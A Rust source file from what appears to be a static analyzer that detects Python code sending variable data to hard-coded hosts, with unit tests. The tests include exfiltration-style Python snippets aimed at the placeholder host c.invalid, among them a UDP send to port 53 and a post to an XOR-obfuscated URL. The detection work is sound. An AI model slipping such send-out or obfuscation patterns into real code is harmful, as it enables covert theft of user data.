//! Addresses that are written down, and that something is sent to.
//!
//! That a program connects to a host of its maker's choice says little; what it says is what goes
//! there. So an address counts where a call takes it together with something that is not constant: a
//! body, a form, a file, or a part of the address itself.

use ruff_python_ast::{Expr, Number};
use ruff_text_size::{Ranged, TextRange};

use super::super::scope::{Def, FuncId};
use super::super::value::Val;
use super::apply::Given;
use super::taint::{Key, Taint, Trace, places};
use super::{Flows, Sink};
use crate::check::flow::{ADDRESSED, FIXED_HOST, Mode, SENT_TO, far_host, far_name};
use crate::model::{Fact, FactKind};

/// Levels of a container that are looked into for something that is not constant.
const MAX_DEPTH: u8 = 4;

impl<'a> Flows<'_, '_, '_, 'a> {
    /// A call of `name` that reaches the network: where to, if something goes along.
    pub(super) fn addressed(&mut self, name: &str, given: &[Given<'a>], range: TextRange) {
        let last = name.rsplit('.').next().unwrap_or(name);
        let (host, port) = (given.first(), given.get(1));
        let connection =
            ["HTTPConnection", "HTTPSConnection", "SMTP", "SMTP_SSL", "FTP", "FTP_TLS", "Telnet"]
                .contains(&last);
        if connection {
            if let Some(one) = host {
                self.bare(one.value, range);
            }
            return;
        }
        if name.contains("socket")
            && matches!(last, "connect" | "connect_ex" | "sendto" | "create_connection")
            || name.ends_with("asyncio.open_connection")
        {
            let tuple = given.iter().find_map(|one| one.value.as_tuple_expr());
            match (tuple.and_then(|tuple| tuple.elts.first()), host, port) {
                (Some(first), ..) => self.bare(first, range),
                (None, Some(one), Some(_)) if last == "open_connection" => self.bare(one.value, range),
                _ => {}
            }
            return;
        }
        let positional = given.iter().filter(|one| one.name.is_none()).take(3);
        let named = given.iter().filter(|one| matches!(one.name, Some("url" | "uri" | "fullurl")));
        let Some(address) = positional
            .chain(named)
            .find(|one| self.is_address(one))
            .or_else(|| given.iter().find(|one| matches!(one.name, None | Some("url" | "uri" | "fullurl"))))
        else {
            return;
        };
        let (value, taint) = (address.value, address.taint.clone());
        let talks = last == "WebSocket" || name.contains("websocket") && last.contains("connect");
        if !talks && !self.goes_along(last, given, value) {
            return;
        }
        // One that is written down here is noted; what is left comes from elsewhere.
        let noted = self.note(value, range);
        let mut to = Taint::default();
        for (key, trace) in &taint.keys {
            if !matches!(key, Key::Source(source) if *source != FIXED_HOST) {
                to.merge(&Taint::one(*key, trace.clone()));
            }
        }
        if noted {
            to = to.without(&[FIXED_HOST]);
        }
        self.sink(SENT_TO, range, &to);
    }

    fn is_address(&self, one: &Given<'a>) -> bool {
        one.taint.has(FIXED_HOST) || self.written_down(one.value).is_some()
    }

    /// The host of an address that is constant so far.
    fn written_down(&self, value: &'a Expr) -> Option<String> {
        let text = self.resolver.approximate(value)?;
        let host = far_host(&text)?;
        (!self.settable(value, 0)).then_some(host)
    }

    /// Notes an address if it is written down; `true` where it is.
    fn note(&mut self, value: &'a Expr, range: TextRange) -> bool {
        let host = self.written_down(value);
        host.map(|host| self.add(value, host, range)).is_some()
    }

    fn add(&mut self, value: &'a Expr, host: String, range: TextRange) {
        let at = value.range();
        self.addresses.entry((at.start().to_u32(), at.end().to_u32())).or_insert((host, range));
    }

    /// A host without a scheme.
    fn bare(&mut self, value: &'a Expr, range: TextRange) {
        let Some(text) = self.resolver.approximate(value) else { return };
        let host = text.split(':').next().unwrap_or_default().to_ascii_lowercase();
        if far_name(&host) {
            self.add(value, host, range);
        }
    }

    /// Whether a request takes more along than what is written down.
    fn goes_along(&self, method: &str, given: &[Given<'a>], address: &'a Expr) -> bool {
        let posts = ["post", "put", "patch", "Request", "request", "urlopen", "send", "stream", "fetch"]
            .iter()
            .any(|part| method.contains(part));
        let body = given.iter().filter(|one| one.value.range() != address.range()).any(|one| {
            let counts = match one.name {
                Some(name) => matches!(
                    name,
                    "data" | "json" | "files" | "params" | "content" | "body" | "auth" | "payload" | "fields"
                ),
                None => posts,
            };
            counts && !self.is_constant(one.value, 0)
        });
        body || self.asks(address)
    }

    /// Whether something that is not constant stands behind the question mark of an address. What
    /// stands before it names what is got, as a client of an interface does.
    fn asks(&self, address: &'a Expr) -> bool {
        let text = self.resolver.approximate(address).unwrap_or_default();
        let constant = matches!(self.resolver.expr(address), Val::Str(..));
        !constant
            && text.split_once("://").is_some_and(|(_, rest)| rest.contains("=?") || rest.contains("??"))
    }

    /// Whether a user may set another address: one that is only meant where nobody did.
    fn settable(&self, value: &'a Expr, depth: u8) -> bool {
        match value {
            _ if depth > MAX_DEPTH => true,
            Expr::BoolOp(_) | Expr::If(_) => true,
            Expr::BinOp(it) => self.settable(&it.left, depth + 1),
            Expr::FString(it) => it
                .value
                .elements()
                .next()
                .and_then(|first| first.as_interpolation())
                .is_some_and(|first| self.settable(&first.expression, depth + 1)),
            Expr::Call(it) => {
                let callee = self.resolver.callee(it);
                let asked = callee.as_name().is_some_and(|name| {
                    matches!(
                        name,
                        "os.getenv" | "os.environ.get" | "os.environ.pop" | "os.environ.setdefault"
                    )
                });
                let method = match &*it.func {
                    Expr::Attribute(it) => self.settable(&it.value, depth + 1),
                    _ => false,
                };
                asked || method
            }
            Expr::Name(name) => {
                let symbol =
                    self.resolver.scopes.symbol(name).and_then(|at| self.resolver.scopes.symbols.get(at));
                symbol.is_some_and(|symbol| {
                    symbol.defs.iter().any(|place| match place.def {
                        Def::Value(value) => self.settable(value, depth + 1),
                        Def::Param(..) => true,
                        _ => false,
                    })
                })
            }
            _ => false,
        }
    }

    fn is_constant(&self, value: &'a Expr, depth: u8) -> bool {
        if depth > MAX_DEPTH {
            return false;
        }
        let all = |parts: &'a [Expr]| parts.iter().all(|part| self.is_constant(part, depth + 1));
        match value {
            Expr::StringLiteral(_)
            | Expr::BytesLiteral(_)
            | Expr::BooleanLiteral(_)
            | Expr::NoneLiteral(_)
            | Expr::EllipsisLiteral(_) => true,
            Expr::NumberLiteral(it) => !matches!(it.value, Number::Complex { .. }),
            Expr::List(it) => all(&it.elts),
            Expr::Tuple(it) => all(&it.elts),
            Expr::Dict(it) => it.items.iter().all(|item| self.is_constant(&item.value, depth + 1)),
            _ => matches!(self.resolver.expr(value), Val::Str(..) | Val::Bytes(..) | Val::Int(_)),
        }
    }

    /// A function of this file is called that sends to where it is told.
    pub(super) fn told_where(&mut self, func: FuncId, skip: usize, given: &[Given<'a>]) {
        let params = &self.resolver.scopes.funcs[func].params;
        let mut place = skip;
        let mut found: Vec<(&'a Expr, Sink)> = Vec::new();
        for one in given {
            let at = match one.name {
                Some(name) => params.iter().position(|param| param.name == name),
                None => {
                    place += 1;
                    Some(place - 1)
                }
            };
            let sinks = at.and_then(|at| self.param_sinks.get(&(func, at)));
            let sink =
                sinks.into_iter().flatten().find(|(sink, mode)| sink.0 == SENT_TO && *mode == Mode::Plain);
            found.extend(sink.map(|(sink, _)| (one.value, *sink)));
        }
        for (value, sink) in found {
            self.note(value, TextRange::new(sink.1.into(), sink.2.into()));
        }
    }

    /// Whether a way starts at an address that is known with its host.
    pub(super) fn is_noted(&self, trace: &Trace) -> bool {
        let first = places(trace).first().map(|at| (at.start().to_u32(), at.end().to_u32()));
        first.is_some_and(|first| self.addresses.contains_key(&first))
    }

    /// Adds a fact for each address.
    pub(super) fn report_addresses(&self, facts: &mut Vec<Fact>) {
        for (&(start, end), (host, sent)) in &self.addresses {
            let written = self.unit.place.span(TextRange::new(start.into(), end.into()));
            let sent = self.unit.place.span(*sent);
            let mut fact = Fact::new(FactKind::Flow, ADDRESSED, sent.clone()).value(host.clone());
            fact.steps = vec![written, sent];
            facts.push(fact);
        }
    }
}

#[cfg(test)]
mod tests {
    use crate::check::flow::fixed_hosts;
    use crate::check::parse::python::parse;

    fn hosts(source: &str) -> Vec<String> {
        fixed_hosts(&parse("pkg/mod.py", source).facts)
    }

    #[test]
    fn where_something_is_sent() {
        for source in [
            "import requests\nrequests.post('https://c.invalid/v1', json=things)",
            "import requests\nURL = 'https://c.invalid/v1'\ndef f(x):\n    requests.request('PUT', URL, data=x)",
            "import requests\ndef f(x):\n    requests.get('https://c.invalid/p.gif?d=' + x)",
            "import requests\ndef f(x):\n    requests.get(f'https://c.invalid/p?d={x}')",
            "import urllib.request\ndef f(x):\n    urllib.request.urlopen(urllib.request.Request('https://c.invalid', data=x))",
            "import requests\ndef post(url, body):\n    requests.post(url, json=body)\ndef f(x):\n    post('https://c.invalid/v1', x)",
            "import requests\ndef low(to, body):\n    requests.post(to, json=body)\ndef post(url, body):\n    low(url, body)\npost(body=x, url='https://c.invalid/v1')",
            "import requests\nclass A:\n    def go(self, x):\n        self.post('https://c.invalid', {'x': x})\n    def post(self, url, body):\n        def send():\n            requests.post(url, json=body)\n        send()",
            "import http.client\nPARTS = ('c', 'invalid')\ndef f(x):\n    con = http.client.HTTPSConnection('.'.join(PARTS))\n    con.request('PUT', '/', x)",
            "import socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ndef f(x):\n    s.sendto(x, ('c.invalid', 53))",
            "import requests\nK = 5\nU = bytes(c ^ K for c in b'mqquv?**f+lksdila').decode()\ndef f(x):\n    requests.post(U, data=x)",
        ] {
            assert_eq!(hosts(source), ["c.invalid"], "{source}");
        }
        let both = "import requests\ndef post(url, body):\n    requests.post(url, json=body)\npost('https://a.invalid', x)\npost('https://b.invalid', x)";
        assert_eq!(hosts(both), ["a.invalid", "b.invalid"]);
    }

    #[test]
    fn where_nothing_is_or_the_user_says_where() {
        for source in [
            "import requests\nrequests.post('https://c.invalid/v1', json={'version': '1.2'})",
            "import requests\ndef f(name):\n    requests.get(f'https://c.invalid/files/{name}.zip')",
            "import requests\ndef f(url, x):\n    requests.post(url, json=x)",
            "import requests, os\nURL = os.environ.get('X_URL', 'https://c.invalid/v1')\ndef f(x):\n    requests.post(URL, json=x)",
            "import requests\ndef f(x, url='https://c.invalid/v1'):\n    requests.post(url, json=x)",
            "import requests\ndef f(x, url=None):\n    requests.post(url or 'https://c.invalid/v1', json=x)",
            "import requests\ndef f(x):\n    requests.post('http://127.0.0.1:8080/v1', json=x)",
            "def f(x):\n    print('see https://c.invalid/?q=' + x)",
        ] {
            assert_eq!(hosts(source), <[&str; 0]>::default(), "{source}");
        }
    }
}
